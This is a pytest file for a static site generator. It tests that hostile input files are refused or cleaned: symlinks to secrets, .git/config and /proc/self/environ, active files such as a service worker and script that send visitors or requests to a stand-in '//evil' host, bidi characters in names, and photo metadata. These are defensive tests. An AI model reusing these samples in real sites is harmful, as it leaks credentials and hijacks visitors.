"""What gets published: hostile or careless input files (issue 28, trust round two).

Symbolic links out of static/, templates/, i18n/ and themes; active files beside pages;
phone photos in formats other than JPEG/PNG/WebP; deep, looping or oddly named content.
Each test builds a real site and reads back what was (or was not) published.
"""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from helpers import BASIC_CONFIG, build_site, page, parse_html
from mmsite.errors import BuildErrors, MmsiteError


def errors_of(exc: MmsiteError) -> list[MmsiteError]:
    return exc.errors if isinstance(exc, BuildErrors) else [exc]


def build_fails(root: Path) -> list[MmsiteError]:
    """Build ``root``, which must fail with user errors (never a traceback): the errors."""
    with pytest.raises(MmsiteError) as info:
        build_site(root)
    return errors_of(info.value)


def published(root: Path) -> set[str]:
    public = root / "public"
    return {p.relative_to(public).as_posix() for p in public.rglob("*") if p.is_file()}


HOME = {"content/_index.md": page("Home")}


# -- symbolic links out of static/, templates/, i18n/ and themes -----------------------


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file outside the site whose text must never reach the output."""
    path = tmp_path / "outside" / "secret.txt"
    path.parent.mkdir()
    path.write_text("DEPLOY_TOKEN=hunter2\n", encoding="utf-8")
    return path


def assert_not_published(root: Path, text: str = "hunter2") -> None:
    public = root / "public"
    if public.exists():
        for path in public.rglob("*"):
            if path.is_file():
                assert text.encode() not in path.read_bytes(), path


LINKS = [
    # (where the link is, a path below the site root)
    "static/env.txt",
    "static/deep/er/notes.txt",
    "templates/page.html",
    "templates/partials/footer.html",
    "i18n/en.yaml",
    "content/i18n/en.yaml",
    "themes/mine/static/x.txt",
    "themes/mine/templates/page.html",
    "themes/mine/i18n/en.yaml",
]


@pytest.mark.parametrize("rel", LINKS)
def test_a_link_out_of_the_site_folders_is_an_error(make_site, secret: Path, rel: str) -> None:
    config = None if not rel.startswith("themes/") else "theme: mine\n"
    root = make_site(HOME)
    if config:
        (root / "site.yaml").write_text(
            (root / "site.yaml").read_text(encoding="utf-8") + config, encoding="utf-8"
        )
    link = root / rel
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(secret)
    errors = build_fails(root)
    assert [e.path for e in errors] == [link]
    assert "symbolic link points outside" in errors[0].message
    assert str(secret) in errors[0].message and errors[0].hint
    assert_not_published(root)


def test_a_link_to_the_checkouts_git_config_is_an_error(make_site) -> None:
    """``static/gitconfig.txt -> ../.git/config``: inside the site folder, out of static/."""
    root = make_site(HOME)
    (root / ".git").mkdir()
    (root / ".git/config").write_text("[http] extraheader = hunter2\n", encoding="utf-8")
    (root / "static").mkdir()
    (root / "static/gitconfig.txt").symlink_to("../.git/config")
    (errors,) = build_fails(root)
    assert errors.path == root / "static/gitconfig.txt" and "outside static/" in errors.message
    assert_not_published(root)


def test_proc_environ_is_not_published(make_site, monkeypatch) -> None:
    monkeypatch.setenv("MMSITE_TEST_TOKEN", "hunter2")
    root = make_site(HOME)
    (root / "static").mkdir()
    (root / "static/env.txt").symlink_to("/proc/self/environ")
    (error,) = build_fails(root)
    assert error.path == root / "static/env.txt"
    assert_not_published(root)


def test_a_linked_folder_out_of_the_site_is_an_error(make_site, secret: Path) -> None:
    root = make_site(HOME)
    (root / "templates").symlink_to(secret.parent, target_is_directory=True)
    (error,) = build_fails(root)
    assert error.path == root / "templates" and "outside the site folder" in error.message


def test_link_loops_are_errors(make_site) -> None:
    root = make_site(HOME)
    (root / "static").mkdir()
    (root / "static/a").symlink_to("b")
    (root / "static/b").symlink_to("a")
    errors = build_fails(root)
    assert {e.path for e in errors} == {root / "static/a", root / "static/b"}
    assert all(e.message == "symbolic link loop" for e in errors)


def test_links_inside_their_folder_still_work(make_site) -> None:
    root = make_site(
        {
            **HOME,
            "static/css/real.css": "body { color: red }\n",
            "templates/real.html": "{% extends 'page.html' %}",
        }
    )
    (root / "static/css/alias.css").symlink_to("real.css")
    (root / "static/same").symlink_to("css", target_is_directory=True)
    build_site(root)
    names = published(root)
    assert any(n.startswith("css/alias.") and n.endswith(".css") for n in names)


def test_a_site_may_link_its_whole_static_folder_from_inside_it(make_site) -> None:
    root = make_site({**HOME, "assets/static/robots.txt": "User-agent: *\n"})
    (root / "static").symlink_to("assets/static", target_is_directory=True)
    build_site(root)
    assert (root / "public/robots.txt").read_text(encoding="utf-8") == "User-agent: *\n"


# -- content/: loops, depth, reserved and long names, case, invisible characters ---------


def test_a_symlink_loop_in_content_is_an_error(make_site) -> None:
    root = make_site(HOME)
    (root / "content/loop.md").symlink_to("loop.md")
    (root / "content/x").symlink_to("y")
    (root / "content/y").symlink_to("x")
    errors = build_fails(root)
    assert {e.path for e in errors} == {root / "content/loop.md", root / "content/x",
                                        root / "content/y"}  # fmt: skip
    assert all(e.message == "symbolic link loop" for e in errors)


@pytest.fixture
def nest(make_site) -> Iterator[Callable[[Path, int], None]]:
    """``nest(root, depth)``: content/a/a/.../a/x.md, ``depth`` folders deep, made and
    deleted without recursion (pytest's own clean-up would overflow on it)."""
    made: list[Path] = []

    def make(root: Path, depth: int) -> None:
        walk(root / "content", depth, lambda: Path("x.md").write_text(page("Deep"), "utf-8"))
        made.append(root)

    yield make
    for root in made:
        for name in ("content", "public"):
            if (root / name / "a").is_dir():
                walk(root / name, None, lambda: None, remove=True)


def walk(folder: Path, depth: int | None, at_bottom: Callable[[], object], remove=False) -> None:
    """Go down ``a/a/...`` (``depth`` levels, making them; or all there are), call
    ``at_bottom``, and with ``remove`` delete everything below ``folder`` on the way up."""
    cwd = os.getcwd()
    os.chdir(folder)
    levels = 0
    try:
        while depth is None and os.path.isdir("a") or depth is not None and levels < depth:
            if depth is not None:
                os.mkdir("a")
            os.chdir("a")
            levels += 1
        at_bottom()
        for _ in range(levels if remove else 0):
            for entry in os.scandir("."):  # what the build put here, beside "a"
                if entry.name != "a":
                    shutil.rmtree(entry.name) if entry.is_dir() else os.unlink(entry.name)
            os.chdir("..")
            os.rmdir("a")
    finally:
        os.chdir(cwd)


def test_content_1500_folders_deep_is_an_error_not_a_traceback(make_site, nest) -> None:
    root = make_site(HOME)
    nest(root, 1500)
    (error,) = build_fails(root)
    assert "nested more than 64 deep" in error.message and error.hint
    assert error.path is not None and error.path.is_relative_to(root / "content")


def test_content_64_folders_deep_builds(make_site, nest) -> None:
    root = make_site(HOME)
    nest(root, 64)
    build_site(root)
    assert (root / "public" / ("a/" * 64) / "x/index.html").is_file()


RESERVED = ["robots.txt", "index.html", "_headers", "_redirects", "sitemap.xml",
            "sitemap-2.xml", "404.html", "Robots.TXT", "atom.xml", "manifest.webmanifest",
            "icon-192.png"]  # fmt: skip


@pytest.mark.parametrize("slug", RESERVED)
def test_a_reserved_slug_is_an_error_naming_the_file(make_site, slug: str) -> None:
    root = make_site({**HOME, "content/x.md": page("X", slug=slug)})
    (error,) = build_fails(root)
    assert error.path == root / "content/x.md" and error.line == 3
    assert "name of a file the build writes" in error.message


def test_a_reserved_file_or_folder_name_is_an_error(make_site) -> None:
    root = make_site(
        {**HOME, "content/robots.txt.md": page("R"), "content/404.html/_index.md": page("S")}
    )
    errors = build_fails(root)
    assert {e.path for e in errors} == {root / "content/robots.txt.md",
                                        root / "content/404.html/_index.md"}  # fmt: skip


def test_a_slug_longer_than_a_file_name_is_an_error(make_site) -> None:
    root = make_site({**HOME, "content/x.md": page("X", slug="é" * 128)})  # 256 bytes
    (error,) = build_fails(root)
    assert error.path == root / "content/x.md" and "256 bytes" in error.message
    root2 = make_site({**HOME, "content/x.md": page("X", slug="é" * 127)})  # 254: fits
    build_site(root2)


def test_names_differing_only_in_case_are_an_error(make_site) -> None:
    root = make_site(
        {
            **HOME,
            "content/About.md": page("About"),
            "content/about.md": page("about"),
            "content/shop/Photo.pdf": b"%PDF-1.4",
            "content/shop/photo.pdf": b"%PDF-1.4",
            "content/shop/_index.md": page("Shop"),
            "content/Shop/x.md": page("X"),
        }
    )
    errors = build_fails(root)
    assert sorted(str(e.path.relative_to(root)) for e in errors) == [
        "content/about.md",
        "content/shop",
        "content/shop/photo.pdf",
    ]
    assert all("differ only in case" in e.message and e.hint for e in errors)


def test_slugs_differing_only_in_case_are_an_error(make_site) -> None:
    root = make_site({**HOME, "content/a.md": page("A", slug="Team"), "content/team.md": page("T")})
    (error,) = build_fails(root)
    assert error.path == root / "content/team.md" and "differs only in case" in error.message


@pytest.mark.parametrize("char", ["\u202e", "\u200b", "\u200d", "\u2066", "\ufeff", "\u00ad"])
def test_slugs_with_bidi_or_zero_width_characters_are_errors(make_site, char: str) -> None:
    root = make_site({**HOME, "content/x.md": page("X", slug=f"buy{char}now")})
    (error,) = build_fails(root)
    assert error.path == root / "content/x.md" and error.line == 3
    assert f"U+{ord(char):04X}" in error.message


def test_file_names_with_bidi_characters_are_errors(make_site) -> None:
    root = make_site({**HOME, "content/gpj\u202e.md": page("X")})
    (error,) = build_fails(root)
    assert error.path == root / "content/gpj\u202e.md" and "U+202E" in error.message


def test_ordinary_unicode_slugs_still_build(make_site) -> None:
    root = make_site({**HOME, "content/x.md": page("X", slug="مرحبا-été")})
    build_site(root)
    doc = parse_html(root / "public/مرحبا-été/index.html")
    assert doc.find(".//h1") is not None


# -- files beside pages: passive kinds only, active ones when site.yaml lists them ------

ACTIVE = {
    "content/sw.js": "self.addEventListener('fetch', e => e.respondWith(fetch('//evil')))\n",
    "content/products/embed.html": "<script>location='//evil'</script>\n",
    "content/products/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>\n',
    "content/feed.xml": "<x/>\n",
    "content/products/LICENSE": "no extension\n",
}
PASSIVE = {
    "content/products/manual.pdf": b"%PDF-1.4 manual",
    "content/products/sizes.csv": "size,grams\nS,100\n",
    "content/products/notes.txt": "notes\n",
    "content/fonts/a.woff2": b"wOF2",
    "content/media/clip.mp4": b"\x00\x00\x00\x18ftypmp42",
    "content/media/song.mp3": b"ID3",
    "content/downloads/recipes.zip": b"PK\x03\x04",
    "content/products/anim.gif": b"GIF89a",
}


def test_active_files_beside_pages_are_errors_naming_the_file_and_the_option(make_site) -> None:
    root = make_site({**HOME, **ACTIVE, **PASSIVE})
    errors = build_fails(root)
    assert sorted(str(e.path.relative_to(root)) for e in errors) == sorted(ACTIVE)
    for error in errors:
        assert "beside pages is not published" in error.message
        rel = error.path.relative_to(root / "content").as_posix()
        assert f"active_resources: [{rel}]" in error.hint
    assert not (root / "public").exists()


def test_passive_files_beside_pages_are_published_as_they_are(make_site) -> None:
    root = make_site({**HOME, **PASSIVE})
    build_site(root)
    for rel, data in PASSIVE.items():
        out = root / "public" / rel.removeprefix("content/")
        expected = data if isinstance(data, bytes) else data.encode()
        assert out.read_bytes() == expected


def test_active_files_listed_in_site_yaml_are_published_and_check_names_them(make_site) -> None:
    from mmsite.commands.cli import main

    config = BASIC_CONFIG + "assets:\n  active_resources: [sw.js, 'products/*.html']\n"
    files = {k: v for k, v in ACTIVE.items() if k.endswith((".js", ".html"))}
    root = make_site({**HOME, **files, **PASSIVE}, config=config)
    build_site(root)
    assert (root / "public/sw.js").is_file() and (root / "public/products/embed.html").is_file()
    findings = [f for f in check_findings(root) if f.check == "active"]
    assert sorted(f.where for f in findings) == ["products/embed.html", "sw.js"]
    assert all(f.level == "warning" and "active_resources" in f.message for f in findings)
    assert main(["check", "--site", str(root), "--strict"]) == 1


def check_findings(root: Path):
    from mmsite.commands.checks import run_checks
    from mmsite.engine.build import BuildOptions, load_site
    from mmsite.errors import Reporter

    site, _ = load_site(root, BuildOptions(), Reporter())
    return run_checks(site, root / "public")


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("[nothere.js]", "'nothere.js' names no file below content/"),
        ("sw.js", "must be a list of paths below content/"),
        ("[/sw.js]", "must be a list of paths below content/"),
    ],
)
def test_active_resources_option_mistakes(make_site, value: str, message: str) -> None:
    config = BASIC_CONFIG + f"assets:\n  active_resources: {value}\n"
    root = make_site({**HOME, "content/sw.js": "x"}, config=config)
    (error,) = [e for e in build_fails(root) if e.path == root / "site.yaml"]
    assert error.line == 9 and message in error.message


def test_the_demo_site_publishes_no_active_file(demo_built: Path) -> None:
    assert [f for f in check_findings(demo_built) if f.check == "active"] == []


# -- phone photos: every format Pillow reads is processed, never published raw ----------

SERIAL = "SN-4242-SECRET"
PHOTO_FORMATS = {  # suffix -> Pillow format to write the test photo in
    ".jpg": "JPEG",
    ".jpeg": "JPEG",
    ".jfif": "JPEG",
    ".jpe": "JPEG",
    ".JPG": "JPEG",
    ".png": "PNG",
    ".webp": "WEBP",
    ".tif": "TIFF",
    ".tiff": "TIFF",
    ".heic": "HEIF",
    ".heif": "HEIF",
    ".avif": "AVIF",
}


def phone_photo(fmt: str, size: tuple[int, int] = (900, 600), mode: str = "RGB") -> bytes:
    """A photo with GPS position, camera make and body serial in its EXIF."""
    from PIL import ExifTags, Image

    if fmt == "HEIF":
        pillow_heif = pytest.importorskip("pillow_heif")
        pillow_heif.register_heif_opener()
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneCo"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (50.0, 5.0, 30.0),
    }
    exif[ExifTags.IFD.Exif] = {ExifTags.Base.BodySerialNumber: SERIAL}
    import io

    out = io.BytesIO()
    Image.new(mode, size, (200, 40, 40, 255)[: len(mode)]).save(out, fmt, exif=exif.tobytes())
    data = out.getvalue()
    assert SERIAL.encode() in data
    return data


def assert_every_image_is_clean(public: Path) -> int:
    """Every published file Pillow can open has no EXIF, GPS or XMP; no file holds the
    serial. Returns how many images were read."""
    from PIL import ExifTags, Image, UnidentifiedImageError

    count = 0
    for path in public.rglob("*"):
        if not path.is_file():
            continue
        assert SERIAL.encode() not in path.read_bytes(), path
        try:
            image = Image.open(path)
        except UnidentifiedImageError:
            continue
        with image:
            exif = image.getexif()
            assert dict(exif) == {} and exif.get_ifd(ExifTags.IFD.GPSInfo) == {}, path
            assert not {"exif", "xmp", "icc_profile", "comment"} & set(image.info), path
            count += 1
    return count


@pytest.mark.parametrize("suffix", sorted(PHOTO_FORMATS))
def test_phone_photos_are_processed_and_stripped_in_every_format(make_site, suffix) -> None:
    photo = phone_photo(PHOTO_FORMATS[suffix])
    root = make_site(
        {
            **HOME,
            "content/products/salt.md": page("Salt", f"![A jar](photo{suffix})"),
            f"content/products/photo{suffix}": photo,
        }
    )
    result = build_site(root)
    assert result.images == 1
    public = root / "public"
    assert assert_every_image_is_clean(public) >= 3  # the sizes, the plain copy, webp
    names = {p.name for p in (public / "products").iterdir()}
    converted = suffix.lower() in (".tif", ".tiff", ".heic", ".heif", ".avif")
    plain = "photo.jpg" if converted else f"photo{suffix}"
    assert plain in names and (not converted or f"photo{suffix}" not in names)
    img = next(parse_html(public / "products/salt/index.html").iter("img"))
    assert img.get("alt") == "A jar" and (public / img.get("src").lstrip("/")).is_file()


def test_a_transparent_tiff_becomes_a_png(make_site) -> None:
    root = make_site({**HOME, "content/logo.tiff": phone_photo("TIFF", (300, 200), "RGBA")})
    build_site(root)
    assert (root / "public/logo.png").is_file() and not (root / "public/logo.tiff").exists()
    assert assert_every_image_is_clean(root / "public") >= 2


def test_a_converted_photo_may_not_take_the_name_of_another(make_site) -> None:
    root = make_site(
        {
            **HOME,
            "content/photo.heic": phone_photo("HEIF"),
            "content/photo.jpg": phone_photo("JPEG"),
            "content/scan.tif": phone_photo("TIFF"),
            "content/scan.avif": phone_photo("AVIF"),
        }
    )
    errors = build_fails(root)
    assert {e.path.name for e in errors} == {"photo.heic", "scan.tif"}
    assert all("photo.jpg" in e.message or "scan." in e.message for e in errors)


def test_heic_without_pillow_heif_is_refused_with_a_hint(make_site, monkeypatch) -> None:
    import builtins

    photo = phone_photo("HEIF")
    real = builtins.__import__

    def no_heif(name, *args, **kwargs):
        if name == "pillow_heif":
            raise ImportError(name)
        return real(name, *args, **kwargs)

    monkeypatch.setattr(builtins, "__import__", no_heif)
    root = make_site({**HOME, "content/photo.heic": photo}, config=BASIC_CONFIG)
    monkeypatch.setattr("mmsite.features.imagecache.os.cpu_count", lambda: 1)
    (error,) = build_fails(root)
    assert error.path == root / "content/photo.heic"
    assert "pillow-heif" in error.message and "mmsite[heic]" in error.message
    assert not (root / "public").exists()


def test_a_very_large_photo_gets_our_warning_not_pillows(make_site, monkeypatch, recwarn):
    from PIL import Image

    root = make_site({**HOME, "content/big.png": phone_photo("PNG", (400, 300))})
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 100_000)  # 120,000 pixels: over it
    monkeypatch.setattr("mmsite.features.imagecache.os.cpu_count", lambda: 1)
    result = build_site(root)
    assert [w for w in recwarn if issubclass(w.category, Image.DecompressionBombWarning)] == []
    (warning,) = [w for w in result.warnings if "megapixel" in w]
    assert warning.startswith(str(root / "content/big.png")) and "export it smaller" in warning
    again = build_site(root)  # from the cache: the same warning
    assert [w for w in again.warnings if "megapixel" in w] == [warning]


def test_a_decompression_bomb_is_refused_in_our_words(make_site, monkeypatch) -> None:
    from PIL import Image

    root = make_site({**HOME, "content/bomb.png": phone_photo("PNG", (400, 300))})
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 50_000)  # over twice the limit
    monkeypatch.setattr("mmsite.features.imagecache.os.cpu_count", lambda: 1)
    (error,) = build_fails(root)
    assert error.path == root / "content/bomb.png"
    assert "image too large to process safely" in error.message
    assert "DOS" not in error.message and "Image size" not in error.message


def test_a_photo_name_too_long_for_its_sizes_is_an_error(make_site) -> None:
    long, fits = "p" * 234, "q" * 233  # the sizes add 22 bytes: "-8192w.<10 hex>.webp"
    root = make_site({**HOME, f"content/{long}.jpg": phone_photo("JPEG", (60, 40))})
    (error,) = build_fails(root)
    assert error.path == root / f"content/{long}.jpg" and "file name too long" in error.message
    (root / f"content/{long}.jpg").rename(root / f"content/{fits}.jpg")
    build_site(root)
    assert (root / f"public/{fits}.jpg").is_file()


def test_every_image_the_demo_publishes_has_no_metadata(demo_built: Path) -> None:
    assert assert_every_image_is_clean(demo_built / "public") > 8 * 3
